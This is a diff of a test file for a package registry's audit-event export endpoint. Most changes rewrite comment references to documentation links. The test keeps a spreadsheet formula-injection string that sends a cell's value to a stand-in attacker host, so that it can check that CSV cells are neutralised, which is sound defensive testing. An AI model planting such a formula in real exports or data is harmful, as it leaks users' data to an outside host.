@@ -14,11 +14,11 @@ import { World, type TestUser } from '../support/world.js';
 import { buildAuditScenario, PNPM_UA, publishAroundMark } from '../support/audit-scenario.js';
 import { packageTarball, publishBody } from '../support/npm-publish-body.js';
 
-// SPEC 4.6: GET .../audit_events/export in four formats, with the filters (4.5) and visibility
-// (4.2) of the list endpoints, each export audited once; constant memory over a large log; and
+// docs/api.md#audit-export: GET .../audit_events/export in four formats, with the filters (docs/api.md#audit-events) and visibility
+// (docs/architecture.md#scope-and-visibility) of the list endpoints, each export audited once; constant memory over a large log; and
 // `trove audit export` on the same data.
 
-// A refused request's package name that a spreadsheet would run (SPEC 7: CSV cells are neutralised).
+// A refused request's package name that a spreadsheet would run (docs/architecture.md#bad-input-and-limits: CSV cells are neutralised).
 const FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click me")';
 
 // Everything CEF must escape: pipe (header), equals sign (extension), backslash (both), line breaks.
@@ -197,7 +197,7 @@ describe('audit events export', () => {
     assert.deepEqual(await jsonlExport(world.root, '/api/v4/audit_events', '&via=package_client'), instance);
   });
 
-  it('exports CSV with the columns of SPEC 4.6, one row per listed event', async () => {
+  it('exports CSV with the columns of docs/api.md#audit-export, one row per listed event', async () => {
     const expected = await listed(owner.api, acmeEvents(), '&include_subgroups=true');
     const res = await exportOf(owner.api, acmeEvents(), 'csv', '&include_subgroups=true');
     assert.equal(res.status, 200, res.text);
